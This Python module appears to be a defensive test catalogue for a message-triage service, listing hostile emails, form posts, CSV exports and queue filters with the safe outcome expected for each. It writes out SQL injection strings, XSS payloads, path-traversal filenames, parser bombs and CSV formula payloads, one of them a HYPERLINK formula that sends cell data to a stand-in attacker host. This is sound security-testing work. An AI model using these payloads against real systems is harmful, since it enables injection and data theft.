"""The hostile inputs catalogue: every case, what it is, and its expected safe outcome.

Data, not tests: ``test_hostile_catalogue.py`` runs each case through the real ingest path
(folder ingest, the form endpoint over HTTP, the staff queue over HTTP) into a real SQLite
database and checks the outcome named here. A case is one of:

* ``stored``      -- stored as a message; ``check`` asserts what was sanitised;
* ``quarantined`` -- kept raw with the reason code ``reason``;
* ``duplicate``   -- recognised as a copy of the case's first item (nothing new stored);
* ``refused``     -- an HTTP request answered with the status ``reason`` and nothing stored;
* ``escaped``     -- an HTTP page that shows the value as text, never as markup.

Every email or export case is followed by a good message in the same batch, which must be
stored, and the batch's counts must reconcile (seen = stored + quarantined + duplicates).
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any

NOW = datetime(2026, 11, 29, 12, 0, tzinfo=UTC)  # the server's clock for every email batch

Check = Callable[[Sequence[Any]], None]  # asserts on the stored rows (MessageRow) of a case


@dataclass(frozen=True)
class Expect:
    outcome: str  # stored | quarantined | duplicate | refused | escaped
    summary: str  # the expected safe outcome, in words
    reason: str = ""  # quarantine reason code, or the HTTP status of a refusal
    stored: int = 0  # how many of the case's items are stored (stored/duplicate outcomes)
    check: Check | None = None


@dataclass(frozen=True)
class HostileCase:
    id: str
    category: str
    what: str
    channel: str  # email | form_api | form_export | queue_filter | ui
    payload: Callable[[], Any] = field(repr=False)
    expect: Expect


# --- building messages ------------------------------------------------------------------

_DEFAULTS = (
    ("From", "Ana Mwangi <ana@example.org>"),
    ("To", "humanrights@example-platform.com"),
    ("Subject", "Our office was raided"),
    ("Date", "Sun, 29 Nov 2026 10:00:00 +0000"),
)
TEXT = b"Our office was raided last night and our laptops were taken. Please advise.\r\n"


def mail(case_id: str, *headers: str | bytes, body: bytes = TEXT) -> bytes:
    """A message with the given header lines first; From, To, Subject, Date and Message-ID
    are added unless given."""
    lines = [h if isinstance(h, bytes) else h.encode() for h in headers]
    given = {line.split(b":", 1)[0].strip().lower() for line in lines}
    for name, value in _DEFAULTS:
        if name.lower().encode() not in given:
            lines.append(f"{name}: {value}".encode())
    if b"message-id" not in given:
        lines.append(f"Message-ID: <{case_id}@hostile.example>".encode())
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def multipart(case_id: str, declared: str, used: str, *, end: bool = True,
              text: bytes = b"hello-multipart") -> bytes:  # fmt: skip
    params = f'; boundary="{declared}"' if declared is not None else ""
    body = (f"--{used}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n".encode() + text
            + b"\r\n" + (f"--{used}--\r\n".encode() if end else b""))  # fmt: skip
    return mail(case_id, "MIME-Version: 1.0", f"Content-Type: multipart/mixed{params}", body=body)


def nested(case_id: str, depth: int) -> bytes:
    inner = b"Content-Type: text/plain\r\n\r\ndeep\r\n"
    for level in range(depth):
        b = f"n{level}".encode()
        inner = (b"Content-Type: multipart/mixed; boundary=" + b + b"\r\n\r\n--" + b + b"\r\n"
                 + inner + b"\r\n--" + b + b"--\r\n")  # fmt: skip
    head, _, rest = inner.partition(b"\r\n\r\n")
    return mail(case_id, "MIME-Version: 1.0", head, body=rest)


def many_parts(case_id: str, count: int) -> bytes:
    part = b"--p\r\nContent-Type: text/plain\r\n\r\nx\r\n"
    return mail(case_id, "MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="p"',
                body=part * count + b"--p--\r\n")  # fmt: skip


def single(case_id: str, ctype: str, cte: str, body: bytes, *extra: str) -> bytes:
    return mail(case_id, "MIME-Version: 1.0", f"Content-Type: {ctype}",
                f"Content-Transfer-Encoding: {cte}", *extra, body=body)  # fmt: skip


def with_attachment(case_id: str, filename_param: str) -> bytes:
    body = (b"--a\r\nContent-Type: text/plain\r\n\r\nSee the attached file.\r\n"
            b"--a\r\nContent-Type: application/octet-stream\r\n"
            b"Content-Disposition: attachment; " + filename_param.encode() + b"\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\naGVsbG8=\r\n--a--\r\n")  # fmt: skip
    return mail(case_id, "MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="a"',
                body=body)  # fmt: skip


def html(case_id: str, markup: bytes) -> bytes:
    return single(case_id, "text/html; charset=utf-8", "8bit", markup)


# --- checks on stored rows ------------------------------------------------------------------


def one_line(*fields: str) -> Check:
    def check(rows: Sequence[Any]) -> None:
        for row in rows:
            for name in fields:
                value = getattr(row, name) or ""
                assert not any(c in value for c in "\r\n\x00"), (name, value[:80])

    return check


def body_has(*needles: str) -> Check:
    def check(rows: Sequence[Any]) -> None:
        (row,) = rows
        for needle in needles:
            assert needle in row.body_text, (needle, row.body_text[:200])
        assert "\x00" not in row.body_text

    return check


def attachment_named(expected: str) -> Check:
    def check(rows: Sequence[Any]) -> None:
        (row,) = rows
        names = [a["filename"] for a in row.attachments]
        assert names == [expected], names

    return check


def received_at_server_clock(rows: Sequence[Any]) -> None:
    for row in rows:
        assert row.received_at == NOW, row.received_at  # the server's clock, not the sender's


def that(predicate: Callable[[Sequence[Any]], bool], what: str) -> Check:
    def check(rows: Sequence[Any]) -> None:
        assert predicate(rows), what

    return check


def all_of(*checks: Check) -> Check:
    def check(rows: Sequence[Any]) -> None:
        for one in checks:
            one(rows)

    return check


def subject_is(expected: str) -> Check:
    def check(rows: Sequence[Any]) -> None:
        (row,) = rows
        assert row.subject == expected, row.subject[:200]

    return check


def capped(name: str, limit: int) -> Check:
    def check(rows: Sequence[Any]) -> None:
        (row,) = rows
        value = getattr(row, name)
        assert 0 < len(value) <= limit, (name, len(value))

    return check


def sender(address: str, name_has: str = "") -> Check:
    def check(rows: Sequence[Any]) -> None:
        (row,) = rows
        assert row.sender_address == address, row.sender_address
        assert name_has in row.sender_name, row.sender_name
        assert "\r" not in row.sender_name and "\n" not in row.sender_name

    return check


def auto_submitted(flag: bool) -> Check:
    def check(rows: Sequence[Any]) -> None:
        (row,) = rows
        assert row.auto_submitted is flag

    return check


def untouched_by_headers(rows: Sequence[Any]) -> None:
    """Spoofed X-Triage-* headers set nothing: the message waits at "received" like any other."""
    (row,) = rows
    assert row.stage == "received" and row.case_id is None and row.auto_submitted is False


def html_is_safe(rows: Sequence[Any]) -> None:
    (row,) = rows
    shown = (row.html_sanitised or "").lower()
    for bad in ("<script", "onerror", "onload", "javascript:", "<img", "<iframe", "<svg"):
        assert bad not in shown, bad


def same_message_id_both_kept(rows: Sequence[Any]) -> None:
    assert len(rows) == 2 and rows[0].message_id == rows[1].message_id
    assert rows[0].key != rows[1].key and rows[0].raw_sha256 != rows[1].raw_sha256


def form_field(name: str, expected: str) -> Check:
    def check(rows: Sequence[Any]) -> None:
        (row,) = rows
        assert getattr(row, name) == expected, (name, getattr(row, name))

    return check


# --- the catalogue ----------------------------------------------------------------------------

SQLI = "x'); DROP TABLE messages; --"
SQLI_UNION = "' UNION SELECT body_text, 1, 1 FROM messages --"
CSV_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
)
XSS = '<script>alert("xss")</script><img src=x onerror=alert(1)>'


def _email(case_id: str, category: str, what: str, payload: Callable[[], Any],
           expect: Expect) -> HostileCase:  # fmt: skip
    return HostileCase(case_id, category, what, "email", payload, expect)


def stored(summary: str, check: Check | None = None, count: int = 1) -> Expect:
    return Expect("stored", summary, stored=count, check=check)


def quarantined(reason: str, summary: str) -> Expect:
    return Expect("quarantined", summary, reason=reason)


def duplicate(summary: str) -> Expect:
    return Expect("duplicate", summary, stored=1)


def refused(status: int, summary: str) -> Expect:
    return Expect("refused", summary, reason=str(status))


def escaped(summary: str) -> Expect:
    return Expect("escaped", summary)


EMAIL_CASES: list[HostileCase] = [
    # Malformed MIME
    _email("mime-boundary-mismatch", "malformed MIME",
           "multipart declares boundary X, the parts use Y",
           lambda: multipart("mime-boundary-mismatch", "X", "Y"),
           stored("stored; the unparseable body is kept as text, not lost as an attachment",
                  body_has("hello-multipart"))),
    _email("mime-missing-end-boundary", "malformed MIME", "the closing --boundary-- is missing",
           lambda: multipart("mime-missing-end-boundary", "b", "b", end=False),
           stored("stored with its text part", body_has("hello-multipart"))),
    _email("mime-no-boundary-parameter", "malformed MIME",
           "multipart/mixed with no boundary parameter at all",
           lambda: multipart("mime-no-boundary-parameter", None, "b"),  # type: ignore[arg-type]
           stored("stored; the body kept as text", body_has("hello-multipart"))),
    _email("mime-empty-boundary", "malformed MIME", 'boundary=""',
           lambda: multipart("mime-empty-boundary", "", ""),
           stored("stored; the body kept as text", body_has("hello-multipart"))),
    _email("mime-broken-base64", "malformed MIME",
           "base64 text part with invalid characters and no padding",
           lambda: single("mime-broken-base64", "text/plain; charset=utf-8", "base64",
                          b"SGVsbG8gd29ybGQ!!!$$$%%%SGVsbG8\r\n"),
           stored("stored; whatever decodes is kept, nothing raised", one_line("subject"))),
    _email("mime-broken-quoted-printable", "malformed MIME",
           "quoted-printable with =ZZ, a lone = and a soft break at the very end",
           lambda: single("mime-broken-quoted-printable", "text/plain; charset=utf-8",
                          "quoted-printable", b"caf=C3=A9 =ZZ broken = end=\r\n="),
           stored("stored; valid escapes decoded, broken ones kept literally",
                  body_has("café", "=ZZ"))),
    _email("mime-lying-transfer-encoding", "malformed MIME",
           "Content-Transfer-Encoding: x-uuencode over plain text",
           lambda: single("mime-lying-transfer-encoding", "text/plain", "x-uuencode",
                          b"not uuencoded at all\r\n"),
           stored("stored; the text kept as sent", body_has("not uuencoded"))),
    _email("mime-too-deep", "oversized and nested", "multiparts nested 60 deep (limit 20)",
           lambda: nested("mime-too-deep", 60),
           quarantined("mime_too_deep", "quarantined before the walk goes deeper")),
    _email("mime-recursion-bomb", "oversized and nested",
           "multiparts nested 2,000 deep: the standard library's parser would recurse",
           lambda: nested("mime-recursion-bomb", 2000),
           quarantined("parse_error", "quarantined (RecursionError caught), batch goes on")),
    _email("mime-too-many-parts", "oversized and nested", "600 sibling parts (limit 500)",
           lambda: many_parts("mime-too-many-parts", 600),
           quarantined("too_many_parts", "quarantined with the part count")),
    _email("mime-oversized", "oversized and nested",
           "a 26 MiB message (limit TRIAGE_MAX_MESSAGE_BYTES, 25 MiB)",
           lambda: mail("mime-oversized", body=b"A" * (26 * 1024 * 1024)),
           quarantined("too_large", "quarantined from its size alone, before parsing")),
    _email("mime-empty-file", "malformed MIME", "a file of blank lines",
           lambda: b"\r\n \r\n\t\r\n", quarantined("empty", "quarantined as empty")),
    _email("mime-binary-garbage", "malformed MIME", "a PNG image saved as .eml",
           lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8,
           quarantined("not_an_email", "quarantined: no From, To, Subject, Date or Message-ID")),
    _email("mime-nul-bytes", "malformed MIME", "NUL bytes in the subject and the body",
           lambda: mail("mime-nul-bytes", b"Subject: help\x00me", body=b"we\x00need help\r\n"),
           stored("stored with the NULs removed (PostgreSQL cannot store them)",
                  all_of(one_line("subject"), body_has("weneed help")))),
    # Encodings
    _email("charset-unknown", "encodings", "charset=x-klingon over UTF-8 text",
           lambda: single("charset-unknown", "text/plain; charset=x-klingon", "8bit",
                          "Défenseurs arrêtés".encode()),
           stored("stored; decoded by the UTF-8 fallback", body_has("Défenseurs arrêtés"))),
    _email("charset-invalid-bytes", "encodings", "declared UTF-8, bytes that are not UTF-8",
           lambda: single("charset-invalid-bytes", "text/plain; charset=utf-8", "8bit",
                          b"caf\xe9 \xff\xfe r\xe9union"),
           stored("stored; decoded by the windows-1252 fallback", body_has("café", "réunion"))),
    _email("charset-mixed-bytes", "encodings", "UTF-8 and Latin-1 bytes in one part",
           lambda: single("charset-mixed-bytes", "text/plain; charset=iso-8859-1", "8bit",
                          "señal ".encode() + b"se\xf1al"),
           stored("stored as the declared charset reads it", body_has("señal"))),
    _email("charset-utf7-script", "encodings", "UTF-7 body spelling <script> (+ADw-script+AD4-)",
           lambda: single("charset-utf7-script", "text/plain; charset=utf-7", "7bit",
                          b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
           stored("stored as plain text (shown escaped); no HTML copy is made",
                  all_of(body_has("<script>alert(1)</script>"),
                         that(lambda rows: rows[0].html_sanitised is None, "no HTML copy")))),
    _email("charset-utf7-lone-surrogate", "encodings",
           "UTF-7 that decodes to a lone surrogate (+2AA-), in the body and the subject",
           lambda: single("charset-utf7-lone-surrogate", "text/plain; charset=utf-7", "7bit",
                          b"+2AA- help us", "Subject: =?utf-7?Q?+2AA-_subject?="),
           stored("stored; the unencodable character replaced (it would fail the chunk)",
                  all_of(body_has("help us"), one_line("subject")))),
    _email("rfc2047-unknown-charset", "encodings", "encoded-word subject in charset x-unknown",
           lambda: mail("rfc2047-unknown-charset", "Subject: =?x-unknown?B?SGVsbG8gd29ybGQ=?="),
           stored("stored; decoded by the fallback", subject_is("Hello world"))),
    _email("rfc2047-bad-base64", "encodings", "encoded word whose base64 is broken",
           lambda: mail("rfc2047-bad-base64", "Subject: =?utf-8?B?SGVsbG8!!!?="),
           stored("stored with a one-line subject", one_line("subject"))),
    _email("rfc2047-word-flood", "header bombs", "a subject of 20,000 encoded words",
           lambda: mail("rfc2047-word-flood", "Subject: " + " ".join(["=?utf-8?q?ab?="] * 20000)),
           stored("stored; the subject capped at 4,000 characters", capped("subject", 4000))),
    # Header injection via encoded newlines
    _email("inject-subject-crlf", "header injection",
           "subject =?utf-8?q?Hello=0D=0ABcc:_victim@example.org?=",
           lambda: mail("inject-subject-crlf",
                        "Subject: =?utf-8?q?Hello=0D=0ABcc:_victim@example.org?="),
           stored("stored on one line: no header can be added to a reply",
                  subject_is("Hello Bcc: victim@example.org"))),
    _email("inject-from-crlf", "header injection",
           "display name =?utf-8?q?Eve=0D=0ABcc:_x@example.net?=",
           lambda: mail("inject-from-crlf",
                        "From: =?utf-8?q?Eve=0D=0ABcc:_x@example.net?= <eve@example.org>"),
           stored("stored; the name on one line, the address is the real one",
                  sender("eve@example.org", "Eve Bcc:"))),
    _email("inject-address-in-encoded-word", "spoofed internal headers",
           "an encoded word that decodes to a staff address: "
           "=?utf-8?q?x=3Camina=40example-platform.com=3E?= <eve@evil.example>",
           lambda: mail("inject-address-in-encoded-word",
                        "From: =?utf-8?q?x=3Camina.yusuf=40example-platform.com=3E?= "
                        "<eve@evil.example>"),
           stored("stored from eve@evil.example: the address is parsed before decoding",
                  sender("eve@evil.example", "amina.yusuf@example-platform.com"))),
    # Header bombs
    _email("header-bomb-count", "header bombs", "5,000 X-Spam headers (limit 1,000)",
           lambda: mail("header-bomb-count", *[f"X-Spam-{i}: x" for i in range(5000)]),
           quarantined("too_many_headers", "quarantined with the header count")),
    _email("header-bomb-long-subject", "header bombs", "a 1 MB subject",
           lambda: mail("header-bomb-long-subject", "Subject: " + "A" * 1_000_000),
           stored("stored; the subject capped at 4,000 characters", capped("subject", 4000))),
    _email("header-bomb-long-name", "header bombs", "a 100,000-character display name",
           lambda: mail("header-bomb-long-name", f'From: "{"N" * 100_000}" <n@example.org>'),
           stored("stored; the name capped at 200 characters", capped("sender_name", 200))),
    _email("header-bomb-references", "header bombs", "References with 50,000 message ids",
           lambda: mail("header-bomb-references", "References: " + " ".join(
               f"<r{i}@x.example>" for i in range(50_000))),
           stored("stored; at most 100 references kept",
                  that(lambda rows: len(rows[0].references) <= 100, "at most 100"))),
    # HTML bombs
    _email("html-bomb-nesting", "HTML bombs", "100,000 nested <div>s",
           lambda: html("html-bomb-nesting",
                        b"<div>" * 100_000 + b"deep text" + b"</div>" * 100_000),
           stored("stored; the staff copy is escaped plain text (no sanitiser blow-up)",
                  that(lambda rows: rows[0].html_sanitised.startswith("<pre>"), "escaped text"))),
    _email("html-bomb-entities", "HTML bombs",
           "a DOCTYPE with nested entities (billion laughs) in an HTML part",
           lambda: html("html-bomb-entities",
                        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;'
                        b'&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
                        b"<p>&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;</p>"),
           stored("stored; entities are not expanded", capped("body_text", 10_000))),
    _email("html-script-payloads", "XSS", "script, event handlers, SVG, javascript: links",
           lambda: html("html-script-payloads",
                        b"<p>visible</p><script>alert(1)</script><img src=x onerror=alert(1)>"
                        b"<svg onload=alert(1)></svg><a href='javascript:alert(1)'>x</a>"
                        b"<iframe src='https://evil.example'></iframe>"),
           stored("stored; the sanitised copy has no script, handler, image or frame",
                  html_is_safe)),
    # Path traversal in attachment names
    _email("filename-traversal", "path traversal", 'filename="../../etc/passwd"',
           lambda: with_attachment("filename-traversal", 'filename="../../etc/passwd"'),
           stored("stored; the name is its last component", attachment_named("passwd"))),
    _email("filename-absolute", "path traversal", 'filename="/etc/shadow"',
           lambda: with_attachment("filename-absolute", 'filename="/etc/shadow"'),
           stored("stored; no directory kept", attachment_named("shadow"))),
    _email("filename-windows-path", "path traversal",
           'filename="C:\\Windows\\System32\\cmd.exe"',
           lambda: with_attachment("filename-windows-path",
                                   'filename="C:\\\\Windows\\\\System32\\\\cmd.exe"'),
           stored("stored; no drive or directory kept", attachment_named("cmd.exe"))),
    _email("filename-nul", "path traversal", "a NUL in the name: invoice.pdf%00.exe (RFC 2231)",
           lambda: with_attachment("filename-nul", "filename*=utf-8''invoice.pdf%00.exe"),
           stored("stored; the NUL replaced by a space", attachment_named("invoice.pdf .exe"))),
    _email("filename-windows-device", "path traversal", 'filename="CON.txt" (a Windows device)',
           lambda: with_attachment("filename-windows-device", 'filename="CON.txt"'),
           stored("stored; renamed so saving it makes a file", attachment_named("_CON.txt"))),
    _email("filename-encoded-traversal", "path traversal",
           "an RFC 2047 name decoding to ..\\..\\boot.ini",
           lambda: with_attachment("filename-encoded-traversal",
                                   'filename="=?utf-8?q?=2E=2E=5C=2E=2E=5Cboot.ini?="'),
           stored("stored; the name is its last component", attachment_named("boot.ini"))),
    _email("filename-markup-and-bidi", "XSS",
           "an attachment named <img src=x onerror=alert(1)>\u202egpj.exe",
           lambda: with_attachment("filename-markup-and-bidi",
                                   "filename*=utf-8''%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"
                                   "%E2%80%AEgpj.exe"),
           stored("stored; markup and the right-to-left override replaced",
                  attachment_named("_img src_x onerror_alert(1)_gpj.exe"))),
    # Spoofed internal headers
    _email("spoof-x-triage-headers", "spoofed internal headers",
           "X-Triage-Priority: critical, X-Triage-Stage: routed, X-Triage-Owner: admin.one",
           lambda: mail("spoof-x-triage-headers", "X-Triage-Priority: critical",
                        "X-Triage-Stage: routed", "X-Triage-Owner: admin.one",
                        "X-Triage-Confidential: no"),
           stored("stored at stage 'received' like any mail: no header sets state",
                  untouched_by_headers)),
    _email("spoof-auto-submitted-comment", "spoofed internal headers",
           "Auto-Submitted: no (written by a person) -- RFC 3834 allows the comment",
           lambda: mail("spoof-auto-submitted-comment", "Auto-Submitted: no (a person)"),
           stored("stored as a person's mail (opens a case)", auto_submitted(False))),
    _email("spoof-auto-submitted", "spoofed internal headers",
           "a person's mail marked Auto-Submitted: auto-replied",
           lambda: mail("spoof-auto-submitted", "Auto-Submitted: auto-replied"),
           stored("stored and flagged automatic: the sender only hides their own mail",
                  auto_submitted(True))),
    # Clock skew and odd dates
    _email("date-year-1900", "clock skew", "Date: Mon, 01 Jan 1900 00:00:00 +0000",
           lambda: mail("date-year-1900", "Date: Mon, 01 Jan 1900 00:00:00 +0000"),
           stored("stored; received at the server's clock, Date kept for display",
                  received_at_server_clock)),
    _email("date-year-2999", "clock skew", "Date: Tue, 01 Jan 2999 00:00:00 +0000",
           lambda: mail("date-year-2999", "Date: Tue, 01 Jan 2999 00:00:00 +0000"),
           stored("stored; received at the server's clock", received_at_server_clock)),
    _email("date-invalid", "clock skew", "Date: yesterday at noon",
           lambda: mail("date-invalid", "Date: yesterday at noon"),
           stored("stored; received at the server's clock", received_at_server_clock)),
    _email("date-missing", "clock skew", "no Date header",
           lambda: mail("date-missing", "Date:"),
           stored("stored; received at the server's clock", received_at_server_clock)),
    _email("date-tz-9999", "clock skew", "Date: Sun, 29 Nov 2026 10:00:00 +9999",
           lambda: mail("date-tz-9999", "Date: Sun, 29 Nov 2026 10:00:00 +9999"),
           stored("stored; received at the server's clock", received_at_server_clock)),
    _email("received-year-2999", "clock skew",
           "a forged Received: stamp in 2999 (deadlines would never come due)",
           lambda: mail("received-year-2999",
                        "Received: from x by y; Tue, 01 Jan 2999 00:00:00 +0000"),
           stored("stored; the implausible stamp replaced by the server's clock",
                  received_at_server_clock)),
    _email("received-year-1900", "clock skew",
           "a forged Received: stamp in 1900 (deadlines breached at once)",
           lambda: mail("received-year-1900",
                        "Received: from x by y; Mon, 01 Jan 1900 00:00:00 +0000"),
           stored("stored; the implausible stamp replaced by the server's clock",
                  received_at_server_clock)),
    _email("received-year-9999-west", "clock skew",
           "Received: Fri, 31 Dec 9999 23:59:59 -2359 (overflows when converted to UTC)",
           lambda: mail("received-year-9999-west",
                        "Received: from x by y; Fri, 31 Dec 9999 23:59:59 -2359"),
           stored("stored, not quarantined: the server's clock is used",
                  received_at_server_clock)),
    # Duplicate and colliding Message-IDs
    _email("dup-same-bytes", "duplicates", "the same file twice",
           lambda: [mail("dup-same-bytes")] * 2,
           duplicate("the second copy is a duplicate of the first")),
    _email("dup-crlf-vs-lf", "duplicates", "the same message with CRLF and with LF line ends",
           lambda: [mail("dup-crlf-vs-lf"), mail("dup-crlf-vs-lf").replace(b"\r\n", b"\n")],
           duplicate("one message: line endings do not make a new one")),
    _email("dup-same-id-different-bytes", "duplicates",
           "two different messages sharing one Message-ID (a collision or a forgery)",
           lambda: [mail("dup-same-id"), mail("dup-same-id", body=b"A different letter.\r\n")],
           stored("both stored: a shared id never hides a message",
                  same_message_id_both_kept, count=2)),
    _email("dup-different-ids-same-text", "duplicates",
           "the same text under two different Message-IDs",
           lambda: [mail("dup-ids-1", "Message-ID: <one@x.example>"),
                    mail("dup-ids-2", "Message-ID: <two@x.example>")],
           stored("both stored (two messages); near-duplicate joining is routing's job",
                  that(lambda rows: len({r.message_id for r in rows}) == 2, "two ids"),
                  count=2)),
]


def _form(case_id: str, category: str, what: str, payload: Callable[[], Any],
          expect: Expect) -> HostileCase:  # fmt: skip
    return HostileCase(case_id, category, what, "form_api", payload, expect)


def submission(**fields: Any) -> dict[str, Any]:
    base = {"name": "Ana Mwangi", "email": "ana@example.org", "subject": "Raid",
            "message": "Our office was raided last night."}  # fmt: skip
    return {**base, **fields}


FORM_CASES: list[HostileCase] = [
    _form("form-sql-injection", "SQL injection", f"SQL in every text field: {SQLI}",
          lambda: submission(name=SQLI, organisation=SQLI, subject=SQLI, message=SQLI),
          stored("stored verbatim as data; every table still there",
                 all_of(form_field("subject", SQLI), form_field("organisation", SQLI)))),
    _form("form-sql-union", "SQL injection", f"a UNION SELECT in the message: {SQLI_UNION}",
          lambda: submission(message=SQLI_UNION, country="'; --"),
          stored("stored verbatim as data", form_field("body_text", SQLI_UNION))),
    _form("form-csv-injection", "CSV injection", "=cmd|, +, -, @ formulas in the text fields",
          lambda: submission(name=CSV_PAYLOADS[0], organisation=CSV_PAYLOADS[1],
                             subject=CSV_PAYLOADS[2], country=CSV_PAYLOADS[3],
                             message=CSV_PAYLOADS[4]),
          stored("stored verbatim (text is data; exports neutralise formulas)",
                 form_field("sender_name", CSV_PAYLOADS[0]))),
    _form("form-xss", "XSS", "script and event-handler payloads in name, subject and message",
          lambda: submission(name=XSS, subject=XSS, message=XSS),
          stored("stored as text (escaped wherever shown)", form_field("subject", XSS))),
    _form("form-header-injection", "header injection", "CR LF Bcc: in the subject and name",
          lambda: submission(subject="Hi\r\nBcc: victim@example.org", name="A\r\nB"),
          stored("stored on one line", all_of(form_field("subject", "Hi Bcc: victim@example.org"),
                                              one_line("sender_name")))),
    _form("form-address-injection", "header injection", "email: ana@example.org\\r\\nBcc: x@y.z",
          lambda: submission(email="ana@example.org\r\nBcc: x@example.net"),
          refused(422, "refused: not an email address; nothing stored")),
    _form("form-nul-bytes", "encodings", "NUL characters in the message",
          lambda: submission(message="help\u0000 us"),
          stored("stored with the NUL removed", form_field("body_text", "help us"))),
    _form("form-lone-surrogate", "encodings", "JSON \\ud800 escapes (lone surrogates)",
          lambda: b'{"message": "help \\ud800 us", "subject": "\\udfff"}',
          refused(422, "refused as not valid text, naming the fields")),
    _form("form-json-nesting-bomb", "oversized and nested", "JSON nested 100,000 deep",
          lambda: b"[" * 100_000 + b"]" * 100_000,
          refused(422, "refused as invalid JSON (no RecursionError escapes)")),
    _form("form-oversized", "oversized and nested", "a 300 KiB body (cap 256 KiB)",
          lambda: submission(message="A" * 300_000),
          refused(413, "refused from Content-Length before parsing")),
    _form("form-submitted-in-2999", "clock skew", "submitted_at: 2999-01-01T00:00:00Z",
          lambda: submission(submitted_at="2999-01-01T00:00:00Z"),
          stored("stored at the server's receipt time; the claim kept in the raw payload",
                 that(lambda rows: rows[0].received_at.year < 2999, "server clock"))),
    _form("form-submitted-overflow", "clock skew", "submitted_at: 9999-12-31T23:59:59-23:59",
          lambda: submission(submitted_at="9999-12-31T23:59:59-23:59"),
          refused(422, "refused as not a date (the overflow no longer escapes as a 500)")),
    _form("form-duplicate-post", "duplicates", "the same JSON posted twice",
          lambda: [submission(message="Posted twice.")] * 2,
          duplicate("the second post answers 'duplicate' with the first's reference")),
]


def _export(case_id: str, category: str, what: str, payload: Callable[[], Any],
            expect: Expect) -> HostileCase:  # fmt: skip
    return HostileCase(case_id, category, what, "form_export", payload, expect)


def csv_rows(*rows: dict[str, str]) -> bytes:
    import csv
    import io

    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=["submission_id", "submitted_at", "name", "email",
                                             "organisation", "subject", "message"])
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
    return out.getvalue().encode()


EXPORT_CASES: list[HostileCase] = [
    _export("export-csv-injection", "CSV injection",
            "a form platform's CSV export with formulas in every cell",
            lambda: csv_rows({"submission_id": "=1+1", "submitted_at": "2026-11-29T09:00:00Z",
                              "name": CSV_PAYLOADS[0], "email": "ana@example.org",
                              "organisation": CSV_PAYLOADS[3], "subject": CSV_PAYLOADS[2],
                              "message": CSV_PAYLOADS[4]}),
            stored("stored verbatim as text", form_field("sender_name", CSV_PAYLOADS[0]))),
    _export("export-lone-surrogate", "encodings",
            "a JSON export whose message holds \\ud800 (a lone surrogate)",
            lambda: b'[{"message": "help \\ud800 us", "name": "\\udfff"}]',
            stored("stored with U+FFFD in its place (it failed the whole chunk before)",
                   form_field("body_text", "help \ufffd us"))),
    _export("export-submitted-in-2999", "clock skew", "an export row submitted in 2999",
            lambda: csv_rows({"submitted_at": "2999-01-01T00:00:00Z", "message": "Help."}),
            stored("stored at the server's clock", received_at_server_clock)),
    _export("export-submitted-overflow", "clock skew",
            "an export row submitted at 9999-12-31T23:59:59-23:59",
            lambda: csv_rows({"submitted_at": "9999-12-31T23:59:59-23:59", "message": "Help."}),
            quarantined("form_invalid", "quarantined; the batch goes on (it used to stop)")),
]


def _filter(case_id: str, category: str, what: str, params: dict[str, str],
            expect: Expect) -> HostileCase:  # fmt: skip
    return HostileCase(case_id, category, what, "queue_filter", lambda: params, expect)


FILTER_CASES: list[HostileCase] = [
    _filter("filter-sql-injection", "SQL injection", "rights_issue=' OR '1'='1",
            {"queue": "open", "rights_issue": "' OR '1'='1"},
            escaped("200, no case matches, the value shown as text")),
    _filter("filter-sql-union", "SQL injection", f"owner={SQLI_UNION}",
            {"queue": "open", "owner": SQLI_UNION},
            escaped("200, no case matches, no message text in the page")),
    _filter("filter-like-wildcards", "SQL injection", "language=% and region=_ (LIKE wildcards)",
            {"queue": "open", "language": "%", "region": "_", "challenge": '%"'},
            escaped("200, the wildcards match nothing")),
    _filter("filter-csv-injection", "CSV injection", f"owner={CSV_PAYLOADS[0]}",
            {"queue": "open", "owner": CSV_PAYLOADS[0]},
            escaped("200, no case matches, the value shown as text")),
    _filter("filter-xss", "XSS", f"owner={XSS}", {"queue": "open", "owner": XSS},
            escaped("200, the value escaped in the form and the links")),
    _filter("filter-odd-values", "clock skew",
            "opened_from=0001-01-01, opened_to=9999-12-31, page=-5, sort='; DROP",
            {"queue": "open", "opened_from": "0001-01-01", "opened_to": "9999-12-31",
             "page": "-5", "sort": "'; DROP TABLE cases; --"},
            escaped("200, the cases still listed")),
    _filter("filter-huge-page", "oversized and nested", "page=10^25 (past any integer column)",
            {"queue": "open", "page": "1" + "0" * 25},
            escaped("200, an empty page, not a database error")),
]

UI_CASES: list[HostileCase] = [
    HostileCase("ui-xss-escaped", "XSS",
                "script payloads in subject, sender name, body and attachment name, "
                "opened in the queue and the case page over HTTP", "ui", lambda: XSS,
                escaped("every field shown as &lt;script&gt; text, never as markup")),
    HostileCase("ui-forged-staff-reference", "spoofed internal headers",
                "From: a staff-domain address, Subject naming another case (TRI-000001), "
                "no thread headers", "ui", lambda: None,
                stored("joins the case as outside mail; the case is not marked answered")),
    HostileCase("ui-huge-ids", "oversized and nested",
                "case and message ids of 25 digits in the UI's and the API's URLs", "ui",
                lambda: "9" * 25, refused(404, "404 not found, not a database error (500)")),
]

CATALOGUE: list[HostileCase] = [*EMAIL_CASES, *FORM_CASES, *EXPORT_CASES, *FILTER_CASES,
                                *UI_CASES]  # fmt: skip
